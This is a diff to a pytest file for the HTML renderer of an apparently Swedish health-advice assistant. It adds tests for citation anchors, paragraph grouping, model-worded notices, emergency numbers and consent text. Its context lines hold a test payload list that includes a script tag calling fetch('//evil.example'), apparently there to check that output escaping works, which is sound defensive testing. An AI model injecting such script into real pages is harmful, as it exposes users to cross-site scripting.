@@ -8,8 +8,17 @@ import pytest
 
 from assistant.answer import Answer, HandoverCard, Kind, Notice, RelatedArticle, Sentence
 from assistant.texts import texts_for
-from tests.fake_app import FakeAssistant, cite, listing, prose
-from web.render import blocks_of, clean, render_answer, render_question, render_welcome
+from corpus.article import LANGUAGES
+from tests.fake_app import FakeAssistant, cite, drafts_of, listing, prose
+from web.render import (
+    blocks_of,
+    clean,
+    render_answer,
+    render_consent,
+    render_consent_again,
+    render_question,
+    render_welcome,
+)
 
 PAYLOADS = (
     "<script>fetch('//evil.example')</script>",
@@ -101,6 +110,37 @@ def test_articles_get_a_paragraph_each() -> None:
     sentences = tuple(Sentence(text=c.quote, role="sentence", citations=(c.n,)) for c in (one, two))
     answer = prose("sv").model_copy(update={"sentences": sentences, "citations": (one, two)})
     assert [len(block.sentences) for block in blocks_of(answer)] == [1, 1]
+
+
+def test_sentence_that_goes_on_from_the_same_article_stays_in_its_paragraph() -> None:
+    one, two = cite(1, "Magnesium kan:", "sv"), cite(2, "Magnesium can:", "en")
+    sentences = tuple(Sentence(text=str(n), role="sentence", citations=n) for n in ((1,), (2, 1), (2,), (1,)))
+    answer = prose("sv").model_copy(update={"sentences": sentences, "citations": (one, two)})
+    assert [len(block.sentences) for block in blocks_of(answer)] == [3, 1]
+
+
+def test_written_sentence_points_at_every_quote_it_rests_on() -> None:
+    answer = drafts_of("sv")[-1]
+    html = _render(answer)
+    told = html.split('class="sources"')[0]
+    assert re.findall(r'href="#t1-c(\d)"', told) == ["1", "2", "3", "4", "5", "3", "4", "5", "6"]
+    assert _marked(html) == [citation.quote for citation in answer.citations]
+    assert all(html.count(f'id="t1-c{n}"') == 1 for n in range(1, 7))
+
+
+def test_introduction_whose_list_is_still_to_come_has_no_empty_list() -> None:
+    draft = drafts_of("sv")[1]
+    assert draft.sentences[-1].role == "lead_in"
+    assert "<ul>" not in _render(draft).split('class="sources"')[0]
+
+
+def test_only_a_written_answer_says_that_a_model_worded_it() -> None:
+    for language in LANGUAGES:
+        notice = texts_for(language).worded_by_model
+        assert notice in _render(drafts_of(language)[0])
+        assert notice not in _render(prose(language))
+        alarm = _bare("emergency", language=language, mode="generative")
+        assert notice not in _render(alarm)
 
 
 @pytest.mark.parametrize("language", ["sv", "en"])
@@ -217,7 +257,17 @@ def test_line_breaks_of_a_question_are_kept() -> None:
 @pytest.mark.parametrize("language", ["sv", "en"])
 def test_welcome_says_ai_urgent_numbers_and_privacy(language: str) -> None:
     texts = texts_for("sv" if language == "sv" else "en")
-    seen = _Seen(render_welcome(texts, "sv" if language == "sv" else "en"))
-    for line in (texts.ai_notice, texts.privacy_notice, texts.urgent_notice):
+    seen = _Seen(render_welcome(texts, "sv" if language == "sv" else "en", texts.privacy_notice_outside))
+    for line in (texts.ai_notice, texts.privacy_notice_outside, texts.urgent_notice):
         assert line in seen.text
+    assert texts.privacy_notice not in seen.text
     assert seen.hrefs() == ["tel:112", "tel:1177"]
+
+
+def test_what_is_agreed_to_can_be_read_again_in_the_conversation() -> None:
+    for language in LANGUAGES:
+        texts = texts_for(language)
+        asks, again = (_Seen(render(texts, language)) for render in (render_consent, render_consent_again))
+        assert texts.consent_text in asks.text
+        assert texts.consent_text in again.text
+        assert [tag for tag, _ in again.tags] == ["details", "summary", "p"]
